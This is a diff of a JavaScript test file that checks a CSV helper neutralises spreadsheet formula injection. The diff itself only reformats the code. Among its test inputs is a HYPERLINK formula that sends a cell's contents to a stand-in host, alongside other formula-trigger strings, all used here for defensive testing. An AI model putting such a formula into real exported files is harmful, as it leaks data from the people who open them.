@@ -2,11 +2,14 @@ import { csvCell, csvFile } from '../src/csv.js';
 
 // CSV formula injection (issue 44): a cell a spreadsheet would run as a formula is written as text.
 describe('csvCell', () => {
-  it.each(['=HYPERLINK("http://x.example/?d="&A1;"Nota")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tcmd', '\rcmd'])('neutralises %j', (v) => {
-    const cell = csvCell(v);
-    // Unquoted, or quoted because of a ; or CR: either way the spreadsheet reads an apostrophe first, never = + - @.
-    expect(cell.replace(/^"/, '')).toMatch(/^'/);
-  });
+  it.each(['=HYPERLINK("http://x.example/?d="&A1;"Nota")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tcmd', '\rcmd'])(
+    'neutralises %j',
+    (v) => {
+      const cell = csvCell(v);
+      // Unquoted, or quoted because of a ; or CR: either way the spreadsheet reads an apostrophe first, never = + - @.
+      expect(cell.replace(/^"/, '')).toMatch(/^'/);
+    },
+  );
 
   it('keeps plain text, numbers (negative ones too) and empties as they are; quotes ; " and line breaks', () => {
     expect(csvCell('Maria Souza')).toBe('Maria Souza');
@@ -20,6 +23,11 @@ describe('csvCell', () => {
   });
 
   it('makes a whole file: BOM, ; and CRLF', () => {
-    expect(csvFile([['a', 1], ['=b', null]])).toBe("\uFEFFa;1\r\n'=b;\r\n");
+    expect(
+      csvFile([
+        ['a', 1],
+        ['=b', null],
+      ]),
+    ).toBe("\uFEFFa;1\r\n'=b;\r\n");
   });
 });
